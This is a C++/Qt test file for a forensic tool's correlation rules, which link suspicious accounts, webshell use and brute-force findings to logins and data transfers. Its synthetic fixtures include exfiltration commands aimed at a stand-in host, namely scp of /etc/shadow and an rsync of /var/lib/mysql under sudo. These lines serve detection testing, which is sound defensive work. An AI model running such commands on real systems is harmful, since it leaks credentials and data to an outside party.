#include "parsed_log.hpp"
#include "support/test_main.hpp"

using namespace deadbox;

namespace {

constexpr std::int64_t k_first_login = 1'772'352'000;  // 2026-03-01T08:00:00Z
constexpr std::int64_t k_hour = 3600;

std::string time_of(std::int64_t at) { return base::to_rfc3339({k_first_login + at, 0}).substr(0, 19); }
QString accepted(std::int64_t at, const std::string& user, const std::string& address, const std::string& method = "password") {
    return QString::fromStdString(time_of(at) + "+00:00 web1 sshd[4711]: Accepted " + method + " for " + user + " from " + address + " port 4001 ssh2");
}
QString request(std::int64_t at, const std::string& address, const std::string& words) {
    const auto civil = base::civil_from_seconds(k_first_login + at);
    return QString::asprintf("%s - - [%02d/Mar/2026:%02d:%02d:%02d +0000] \"%s HTTP/1.1\" 200 512 \"-\" \"curl/7.88.1\"", address.c_str(), civil.day, civil.hour, civil.minute, civil.second, words.c_str());
}

}  // namespace

class AccountUseTest : public QObject {
    Q_OBJECT
private slots:
    void uses_data() {
        QTest::addColumn<QStringList>("findings");  // rule subject severity confidence hours basis
        QTest::addColumn<QStringList>("log");
        QTest::addColumn<QStringList>("web");
        QTest::addColumn<QStringList>("found");     // rule subject severity confidence, what it rests on
        const std::string out = "203.0.113.77", in = "192.168.1.20";
        const QStringList none;
        const QString twin = "accounts/uid_zero_twin toor 4 2 0 2", fresh = "accounts/new_account eve 2 1 0 3", vouched = "accounts/new_account eve 1 1 2 3";
        const QString opened = "accounts/system_account_login games 3 2 2 2", nobody = "accounts/empty_password bob 3 2 0 2";
        const QString shell = "webshell/script /var/www/html/x.php 4 1 0 0", guessed = "ssh/brute_force_success 203.0.113.77 3 1 1 3";
        const auto row = [](const char* name, QStringList findings, QStringList log, QStringList web, QStringList found) { QTest::newRow(name) << findings << log << web << found; };

        row("nothing", none, none, none, none);
        row("a twin of root that was used", {twin}, {accepted(k_hour, "toor", out)}, none, {"correlation/account_used toor 4 1 f1"});
        row("a twin of root that nobody used", {twin}, {accepted(k_hour, "ann", out)}, none, none);
        row("a twin of root, used before its file was last written", {twin}, {accepted(-9 * 24 * k_hour, "toor", out)}, none, {"correlation/account_used toor 4 1 f1"});
        row("a new account from outside", {fresh}, {accepted(k_hour, "eve", out)}, none, {"correlation/account_used eve 2 1 f1"});
        row("a new account from one's own network", {fresh}, {accepted(k_hour, "eve", in)}, none, {"correlation/account_used eve 1 1 f1"});
        row("an earlier account of that name", {fresh}, {accepted(-2 * k_hour, "eve", out)}, none, none);
        row("a new account, used by who used the webshell", {shell, fresh}, {accepted(k_hour, "eve", out)}, {request(60, out, "POST /x.php")}, {"correlation/account_used eve 3 1 f2 f1"});
        row("a new account, others used the webshell", {shell, fresh}, {accepted(k_hour, "eve", out)}, {request(60, "198.51.100.9", "POST /x.php")}, {"correlation/account_used eve 2 1 f2"});
        row("a new account, its user asked for another page", {shell, fresh}, {accepted(k_hour, "eve", out)}, {request(60, out, "POST /contact.php")}, {"correlation/account_used eve 2 1 f2"});
        row("a new account, used by who guessed passwords", {fresh, guessed}, {accepted(2 * k_hour, "eve", out)}, none, {"correlation/account_used eve 3 1 f1 f2"});
        row("an administrator's account for a colleague", {vouched}, {accepted(3 * k_hour, "eve", out)}, none, none);
        row("an administrator's account, after a break-in", {shell, vouched}, {accepted(3 * k_hour, "eve", out)}, none, {"correlation/account_used eve 1 1 f2"});
        row("an administrator's account, used by who used the webshell", {shell, vouched}, {accepted(3 * k_hour, "eve", out)}, {request(60, out, "POST /x.php")}, {"correlation/account_used eve 3 1 f2 f1"});
        row("a system account that was opened", {opened}, {accepted(3 * k_hour, "games", out)}, none, {"correlation/account_used games 2 1 f1"});
        row("a system account, used at home alone", {opened}, {accepted(3 * k_hour, "games", in)}, none, {"correlation/account_used games 1 1 f1"});
        row("a system account that was opened after a break-in", {shell, opened}, {accepted(3 * k_hour, "games", in)}, none, {"correlation/account_used games 3 1 f2 f1"});
        row("an account without a password", {nobody}, {accepted(k_hour, "bob", out, "none")}, none, {"correlation/open_account_used bob 2 1 f1"});
        row("two findings name it: one finding", {fresh, "accounts/hash_in_passwd eve 3 2 0 2"}, {accepted(k_hour, "eve", out)}, none, {"correlation/account_used eve 2 1 f2"});
        row("an odd home is no account of an intruder's", {"accounts/home_odd eve 2 2 0 2"}, {accepted(k_hour, "eve", out)}, none, none);
        row("what is only possible stays so", {"accounts/new_account eve 2 0 0 2"}, {accepted(k_hour, "eve", out)}, none, {"correlation/account_used eve 2 0 f1"});
    }
    void uses() {
        QFETCH(QStringList, findings);
        QFETCH(QStringList, log);
        QFETCH(QStringList, web);
        QFETCH(QStringList, found);
        test::CaseFixture fixture;
        fill(fixture, findings, log, web);
        QStringList got;
        for (const auto& finding : fixture.detect("account_use")) {
            const auto rests_on = finding.arguments["rests_on"].get<std::string>();
            got << QString::fromStdString(finding.rule + " " + finding.subject + " " + std::to_string(finding.severity) + " " + std::to_string(finding.confidence) + " " + rests_on);
            QCOMPARE(QString::fromStdString(finding.items.at(0).path), QString("/var/log/auth.log"));
            QCOMPARE(finding.items.at(0).line.value_or(0), 1);
            QVERIFY(finding.items.at(0).excerpt.starts_with("Accepted ") && finding.items.at(0).excerpt.ends_with(" for " + finding.subject));
        }
        QCOMPARE(got, found);
    }

    // A login leaves records in several books: it is one, and each of them is evidence.
    void one_login_in_two_books() {
        test::CaseFixture fixture;
        fill(fixture, {"accounts/uid_zero_twin toor 4 2 0 2"}, {accepted(k_hour, "toor", "203.0.113.77"), accepted(9 * k_hour, "toor", "198.51.100.4", "publickey")}, {});
        fixture.event("login.session.start", k_first_login + k_hour + 1, "toor", "203.0.113.77", R"({"tty":"pts/0"})");
        const auto findings = fixture.detect("account_use");
        QCOMPARE(findings.size(), std::size_t{1});
        QCOMPARE(findings[0].arguments["count"].get<std::string>(), std::string("2"));
        QCOMPARE(findings[0].arguments["addresses"].get<std::string>(), std::string("2"));
        QCOMPARE(findings[0].items.size(), std::size_t{4});
        QCOMPARE(findings[0].first_s.value_or(0), k_first_login + k_hour);
    }

    // Where the log was removed, lastlog still has the last login, by the account's number.
    void from_lastlog_alone() {
        for (const bool root : {false, true}) {
            test::CaseFixture fixture;
            fill(fixture, {"accounts/new_account eve 2 1 0 3"}, {}, {});
            test::FileSpec passwd;
            passwd.path = "/etc/passwd", passwd.bytes = root ? "eve:x:0:0::/home/eve:/bin/bash\n" : "eve:x:1001:1001::/home/eve:/bin/bash\n";
            fixture.add_parsed("passwd", passwd);
            fixture.row("last_login", {std::int64_t{root ? 0 : 1001}, {}, k_first_login + k_hour, std::int64_t{0}, std::string_view("pts/0"), std::string_view("203.0.113.77")});
            // Root's number is root's: whose login it was is not known.
            QCOMPARE(fixture.detect("account_use").size(), std::size_t{root ? 0u : 1u});
        }
    }

    // lastlog knows the number alone: where two accounts have it, the log or nobody says whose login it was.
    void lastlog_of_a_number_that_two_share_data() {
        QTest::addColumn<QStringList>("log");
        QTest::addColumn<QString>("found");  // severity confidence shared
        QTest::newRow("nobody says whose it was") << QStringList{} << "1 0 ann";
        QTest::newRow("the log has it under the other name") << QStringList{accepted(k_hour, "ann", "203.0.113.77", "publickey")} << "";
        QTest::newRow("the log has it under this name") << QStringList{accepted(k_hour, "eve", "203.0.113.77")} << "2 1 ";
        QTest::newRow("another login of the other's") << QStringList{accepted(9 * k_hour, "ann", "203.0.113.77", "publickey")} << "1 0 ann";
    }
    void lastlog_of_a_number_that_two_share() {
        QFETCH(QStringList, log);
        QFETCH(QString, found);
        test::CaseFixture fixture;
        fill(fixture, {"accounts/new_account eve 2 1 0 3"}, log, {});
        test::FileSpec passwd;
        passwd.path = "/etc/passwd", passwd.bytes = "ann:x:1001:1001::/home/ann:/bin/bash\neve:x:1001:1001::/home/ann:/bin/bash\n";
        fixture.add_parsed("passwd", passwd);
        fixture.row("last_login", {std::int64_t{1001}, {}, k_first_login + k_hour, std::int64_t{0}, std::string_view("pts/0"), std::string_view("203.0.113.77")});
        QString got;
        for (const auto& finding : fixture.detect("account_use"))
            got += QString::fromStdString(std::to_string(finding.severity) + " " + std::to_string(finding.confidence) + " " + finding.arguments.value("shared", std::string()));
        QCOMPARE(got, found);
    }

    // What it quotes of others names them: it stands without them where they are dismissed.
    void what_it_quotes_names_its_source() {
        test::CaseFixture fixture;
        fill(fixture, {"webshell/script /var/www/html/x.php 4 2 0 2", "accounts/uid_zero_twin toor 4 2 0 2"}, {accepted(k_hour, "toor", "203.0.113.77")}, {request(60, "203.0.113.77", "POST /x.php")});
        const auto findings = fixture.detect("account_use");
        QCOMPARE(findings.size(), std::size_t{1});
        QCOMPARE(findings[0].arguments["rests_on"].get<std::string>(), std::string("f2"));
        QCOMPARE(findings[0].arguments["webshell"].get<std::string>(), std::string("/var/www/html/x.php"));
        QCOMPARE(findings[0].arguments["webshell_said_by"].get<std::string>(), std::string("f1"));
    }

    // Whoever comes from an intruder's address is the intruder, whatever account he has.
    void intruder_logins_data() {
        QTest::addColumn<QStringList>("findings");
        QTest::addColumn<QStringList>("log");
        QTest::addColumn<QStringList>("web");
        QTest::addColumn<QStringList>("found");  // subject severity confidence, what it rests on, whom he became
        const std::string out = "203.0.113.77", other = "198.51.100.9", in = "192.168.1.20";
        const QString shell = "webshell/script /var/www/html/x.php 4 1 0 0", guessed = "ssh/brute_force_success 203.0.113.77 3 1 1 3";
        const auto sudo = [](std::int64_t at, const char* user) { return QString::fromStdString(time_of(at) + "+00:00 web1 sudo:     ") + user + " : TTY=pts/0 ; PWD=/home/x ; USER=root ; COMMAND=/usr/bin/rsync -a /var/lib/mysql x@203.0.113.99:/l"; };
        const auto row = [](const char* name, QStringList findings, QStringList log, QStringList web, QStringList found) { QTest::newRow(name) << findings << log << web << found; };
        const QStringList none, used{request(60, out, "POST /x.php")};
        row("used the webshell, then logged in", {shell}, {accepted(k_hour, "ann", out)}, used, {"ann 3 1 f1 "});
        row("and became root", {shell}, {accepted(k_hour, "ann", out), sudo(k_hour + 600, "ann")}, used, {"ann 3 1 f1 root"});
        row("root by whom came from elsewhere afterwards", {shell}, {accepted(k_hour, "ann", out), accepted(2 * k_hour, "ann", in), sudo(2 * k_hour + 600, "ann")}, used, {"ann 3 1 f1 "});
        row("root by another account", {shell}, {accepted(k_hour, "ann", out), sudo(k_hour + 600, "bob")}, used, {"ann 3 1 f1 "});
        row("others used the webshell", {shell}, {accepted(k_hour, "ann", out)}, {request(60, other, "POST /x.php")}, none);
        row("his address asked for another page", {shell}, {accepted(k_hour, "ann", out)}, {request(60, out, "POST /contact.php")}, none);
        row("was at home there before", {shell}, {accepted(-60 * k_hour, "ann", out), accepted(k_hour, "ann", out)}, used, {"ann 2 0 f1 "});
        row("from one's own network", {shell}, {accepted(k_hour, "ann", in)}, {request(60, in, "POST /x.php")}, {"ann 2 0 f1 "});
        row("the guessed account has its finding", {guessed + " ann"}, {accepted(2 * k_hour, "ann", out)}, none, none);
        row("another account of who guessed passwords", {guessed + " ann"}, {accepted(2 * k_hour, "ann", out), accepted(3 * k_hour, "bob", out, "publickey")}, none, {"bob 3 1 f1 "});
        row("no webshell, no guesses", {}, {accepted(k_hour, "ann", out), sudo(k_hour + 600, "ann")}, {request(60, out, "POST /x.php")}, none);
    }
    void intruder_logins() {
        QFETCH(QStringList, findings);
        QFETCH(QStringList, log);
        QFETCH(QStringList, web);
        QFETCH(QStringList, found);
        test::CaseFixture fixture;
        fill(fixture, findings, log, web);
        for (const auto& finding : findings)
            if (const auto part = finding.split(' '); part.size() > 6) fixture.sql("INSERT INTO finding_item(finding, place, key) VALUES('f1', 1, '" + part[6].toStdString() + "')");
        QStringList got;
        for (const auto& finding : fixture.detect("intruder_logins"))
            got << QString::fromStdString(finding.subject + " " + std::to_string(finding.severity) + " " + std::to_string(finding.confidence) + " " + finding.arguments["rests_on"].get<std::string>() + " " + finding.arguments.value("became", ""));
        QCOMPARE(got, found);
    }

    // Data that is sent from a session of somebody whom nobody knows.
    void stranger_sends_data() {
        QTest::addColumn<QStringList>("log");
        QTest::addColumn<QString>("history");  // hours and commands
        QTest::addColumn<QString>("target");
        QTest::addColumn<QString>("found");  // user severity confidence address
        const std::string out = "203.0.113.77", usual = "198.51.100.20", near = "192.168.1.20";
        const auto daily = [&](const std::string& user, const std::string& address, const std::string& method) {
            QStringList all;
            for (int day = -10; day < 0; ++day) all << accepted(day * 24 * k_hour, user, address, method);
            return all;
        };
        const auto row = [](const char* name, QStringList log, const char* history, const char* target, const char* found) { QTest::newRow(name) << log << QString(history) << QString(target) << QString(found); };
        const char *sends = "2 scp /etc/shadow x@203.0.113.99:", *weeks = "-100 scp a.sql x@203.0.113.99:;-50 scp a.sql x@203.0.113.99:;2 scp a.sql x@203.0.113.99:";
        row("root, who never came; others did", daily("ann", usual, "publickey") + QStringList{accepted(k_hour, "root", out)}, sends, "203.0.113.99", "root 3 1 203.0.113.77");
        row("root, from where he never came", daily("root", usual, "publickey") + QStringList{accepted(k_hour, "root", out)}, sends, "203.0.113.99", "root 3 1 203.0.113.77");
        row("with a key", daily("root", usual, "publickey") + QStringList{accepted(k_hour, "root", out, "publickey")}, sends, "203.0.113.99", "");
        row("a migration from the usual place", daily("root", usual, "password") + QStringList{accepted(k_hour, "root", usual)}, sends, "203.0.113.99", "");
        row("a neighbour of the usual place", daily("root", usual, "password") + QStringList{accepted(k_hour, "root", "198.51.100.99")}, sends, "203.0.113.99", "");
        row("from the own network", daily("root", usual, "password") + QStringList{accepted(k_hour, "root", near)}, sends, "203.0.113.99", "");
        row("copies for weeks, one of them on a journey", daily("root", usual, "password") + QStringList{accepted(k_hour, "root", out)}, weeks, "203.0.113.99", "");
        row("a machine that nobody used before", {accepted(k_hour, "root", out)}, sends, "203.0.113.99", "");
        row("his addresses change always", {accepted(-90 * k_hour, "root", "198.51.100.1"), accepted(-70 * k_hour, "root", "198.51.101.1"), accepted(-50 * k_hour, "root", "198.51.102.1"), accepted(-30 * k_hour, "root", "198.51.103.1"), accepted(k_hour, "root", out)}, sends, "203.0.113.99", "");
        row("a day later", daily("root", usual, "publickey") + QStringList{accepted(-30 * k_hour, "root", out)}, sends, "203.0.113.99", "");
        row("in the session of another", daily("root", usual, "publickey") + QStringList{accepted(k_hour, "root", out), accepted(k_hour + 600, "root", usual, "publickey")}, sends, "203.0.113.99", "");
    }
    void stranger_sends() {
        QFETCH(QStringList, log);
        QFETCH(QString, history);
        QFETCH(QString, target);
        QFETCH(QString, found);
        test::CaseFixture fixture;
        fill(fixture, {}, log, {});
        test::FileSpec spec;
        spec.path = "/root/.bash_history";
        std::int64_t first = 0, last = 0;
        int lines = 0;
        for (const auto& one : history.split(';')) {
            const auto time = k_first_login + one.section(' ', 0, 0).toInt() * k_hour;
            first = ++lines == 1 ? time : first, last = time;
            spec.bytes += "#" + std::to_string(time) + "\n" + one.section(' ', 1).toStdString() + "\n";
        }
        const auto inode = fixture.add_parsed("shell_history", spec);
        fixture.sql("INSERT INTO finding VALUES('f1', 'x', 'exfiltration/sent', 1, 1, '" + target.toStdString() + "', 2, 0, '{}', " + std::to_string(first) + ", 0, 3, " + std::to_string(last) + ", 0, 1, 0)");
        fixture.sql("INSERT INTO finding_item(finding, place, inode, line, key) SELECT 'f1', line, inode, line, 'root' FROM shell_command WHERE inode = " + std::to_string(inode));
        QString got;
        for (const auto& finding : fixture.detect("intruder_logins")) {
            QCOMPARE(finding.rule, std::string("correlation/stranger_sends"));
            QCOMPARE(finding.arguments["rests_on"].get<std::string>(), std::string("f1"));
            got += QString::fromStdString(finding.subject + " " + std::to_string(finding.severity) + " " + std::to_string(finding.confidence) + " " + finding.arguments["address"].get<std::string>());
        }
        QCOMPARE(got, found);
    }

    void another_machine() {
        test::CaseFixture fixture;
        fill(fixture, {"accounts/uid_zero_twin toor 4 2 0 2"}, {accepted(k_hour, "toor", "203.0.113.77")}, {});
        fixture.sql("INSERT INTO tree VALUES(5, 1, 0, NULL, 2, '/', 2); INSERT INTO system VALUES(2, 5); UPDATE event SET inode = (5 << 44) | 77");
        QVERIFY(fixture.detect("account_use").empty());
    }

private:
    static void fill(test::CaseFixture& fixture, const QStringList& findings, const QStringList& log, const QStringList& web) {
        int number = 0;
        for (const auto& finding : findings) {
            const auto part = finding.split(' ');
            fixture.sql(QString("INSERT INTO finding VALUES('f%1', 'x', '%2', 1, 1, '%3', %4, %5, '{}', %6, 0, %7, NULL, NULL, 0, 0)")
                            .arg(++number).arg(part[0], part[1], part[2], part[3]).arg(k_first_login + part[4].toInt() * k_hour).arg(part[5]).toStdString());
        }
        fixture.row("web_root", {std::string_view("/var/www/html"), std::string_view("apache"), {}, std::string_view("root"), std::string_view("/"), std::int64_t{0}, std::int64_t{1}, std::int64_t{2}});
        test::add_log(fixture, "syslog", "/var/log/auth.log", log);
        test::add_log(fixture, "access_log", "/var/log/apache2/access.log", web);
    }
};
DEADBOX_TEST(AccountUseTest)
#include "account_use_test.moc"
